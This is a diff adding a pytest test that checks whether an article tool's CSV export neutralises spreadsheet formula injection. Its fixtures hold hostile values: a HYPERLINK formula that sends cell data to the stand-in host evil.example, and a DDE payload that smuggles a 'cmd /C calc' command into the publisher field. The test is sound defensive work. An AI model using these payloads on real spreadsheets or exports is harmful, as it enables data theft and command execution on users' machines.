@@ -287,3 +287,25 @@ def test_decoding_never_invents_text_from_utf16_lookalikes() -> None:
     """Odd-length data with NULs is binary, not UTF-16."""
     with pytest.raises(ArticleError, match="binary"):
         decode_bytes(b"a\x00b\x00c", "x.txt")
+
+
+# --- exports of untrusted text -----------------------------------------------------------------------------------
+
+
+def test_csv_export_of_formula_payloads_is_neutralised(tmp_path, capsys) -> None:
+    """Article text and sidecar fields that start like spreadsheet formulas come out as text."""
+    import csv
+    import io
+
+    formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    path = write(tmp_path / "f.txt", f"{formula} A roadside bomb exploded in Tikrit today, killing two people.",
+                 {"published": "2021-03-04", "publisher": "@SUM(1+1)*cmd|' /C calc'!A0", "url": "-2+3"})
+    db = str(tmp_path / "s.db")
+    assert run(capsys, "ingest", "--quiet", "--db", db, str(path))[0] == 0
+    out = tmp_path / "e.csv"
+    code, _out, err = run(capsys, "export", "--db", db, "--format", "csv", "-o", str(out))
+    assert code == 0, err
+    [row] = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert row["evidence"].startswith("'=HYPERLINK") and row["source"].startswith("'@")
+    assert row["article_url"] == "'-2+3"
+    assert not [k for k, v in row.items() if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
